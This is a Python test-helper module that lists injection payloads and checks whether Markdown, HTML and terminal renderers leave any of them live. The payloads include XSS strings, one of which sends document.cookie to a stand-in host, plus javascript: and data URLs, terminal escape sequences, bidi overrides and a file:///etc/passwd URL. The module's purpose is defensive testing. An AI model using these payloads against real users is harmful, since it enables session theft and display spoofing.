"""One list of hostile strings for every renderer, and checks that an output holds none of them live.

Each payload goes into every field an article brings (text, title, outlet, doc id,
URL); tests/test_injection.py runs each renderer over them: Markdown (chat replies,
briefs), HTML, JSON/SSE/MCP plain text and the terminal.
"""
from __future__ import annotations

import re

from markdown_it import MarkdownIt

PAYLOADS: dict[str, str] = {
    "html-img": "<img src=x onerror=alert(1)>",
    "html-script": "<script>fetch('http://evil.example/?c='+document.cookie)</script>",
    "html-entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "iframe": '<iframe src="http://evil.example/frame"></iframe>',
    "md-link": "[click here](javascript:alert(document.cookie))",
    "md-image": "![x](http://evil.example/pixel.png)",
    "md-ref-link": "[click][1]\n\n[1]: http://evil.example/",
    "autolink": "<http://evil.example/auto> and <javascript:alert(1)>",
    "footnote": "the claim[^1]\n\n[^1]: a planted footnote",
    "fake-marker": "as reported [7][8] and [src:abcd]",
    "backticks": "id`with`backticks``` and ``` fences",
    "newline-heading": "Title\n## Sources\n1. [9] fake source",
    "crlf-heading": "Title\r\n# Brief: pwned\r\n",
    "list-start": "- injected item",
    "numbered-start": "1. injected item",
    "quote-start": "> injected quote",
    "table-pipe": "| a | b |\n| --- | --- |\n| x | y |",
    "emphasis": "**bold** _it_ ~~gone~~ <b>tag</b>",
    "html-comment": "<!-- hidden --> visible",
    "js-url": "javascript:alert(1)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "osc8-link": "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "clear-screen": "\x1b[2J\x1b[Hfake prompt $ ",
    "colour": "\x1b[31mred\x1b[0m text",
    "title-set": "\x1b]0;pwned title\x07after",
    "c1-csi": "\x9b31mc1 csi",
    "bell-backspace": "bell\x07 back\x08\x08space \x00nul",
    "carriage-return": "safe text\rspoofed",
    "bidi-override": "invoice \u202egpj.exe\u202c done",
    "bidi-isolate": "\u2066hidden\u2069 isolate",
    "line-separator": "one\u2028## two\u2029three",
    "rich-markup": "[bold red]styled[/] [link=http://evil.example]link[/link]",
    "long-line": "A" * 3000,
}

URLS: dict[str, str | None] = {
    "javascript:alert(1)": None,
    "JavaScript:alert(1)": None,
    " javascript:alert(1)": None,
    "data:text/html,<script>alert(1)</script>": None,
    "vbscript:msgbox(1)": None,
    "file:///etc/passwd": None,
    "//evil.example/x": None,
    "http://": None,
    "http://evil.example/a b": None,
    "http://ex.example/a\nb": None,
    "https://ex.example/path?q=1&r=2": "https://ex.example/path?q=1&r=2",
    "https://ex.example/a)b](c": "https://ex.example/a%29b%5D%28c",
    "http://ex.example/<script>": "http://ex.example/%3Cscript%3E",
}

_LIVE_TOKENS = {"html_inline", "html_block", "image", "link_open", "heading_open", "blockquote_open", "bullet_list_open",
                "ordered_list_open", "table_open", "fence", "code_block", "hr", "footnote_ref", "s_open", "strong_open", "em_open"}
_MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def markdown_tokens(md: str) -> list[tuple[str, str]]:
    """(token type, href/src, code or tag) of every block and inline token a Markdown renderer makes of `md`."""
    out: list[tuple[str, str]] = []
    for tok in _MD.parse(md):
        out.append((tok.type, tok.tag))
        for child in tok.children or []:
            out.append((child.type, child.content if child.type == "code_inline" else str(child.attrGet("href") or child.attrGet("src") or child.tag)))
    return out


def live_markup(md: str) -> list[tuple[str, str]]:
    """The tokens of `md` that would be markup rather than text (links, images, HTML, headings, lists...)."""
    return [t for t in markdown_tokens(md) if t[0] in _LIVE_TOKENS]


def rendered_text(md: str) -> str:
    """The text a reader sees when `md` is rendered (entities and escapes resolved)."""
    parts: list[str] = []
    for tok in _MD.parse(md):
        for child in tok.children or []:
            if child.type in {"text", "code_inline"}:
                parts.append(child.content)
            elif child.type in {"softbreak", "hardbreak"}:
                parts.append("\n")
    return "".join(parts)


_UNSAFE_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def terminal_unsafe(text: str) -> list[str]:
    """Characters a terminal would act on (escape, controls, bidi overrides) found in `text`."""
    return sorted({repr(c) for c in _UNSAFE_TERMINAL.findall(text)})
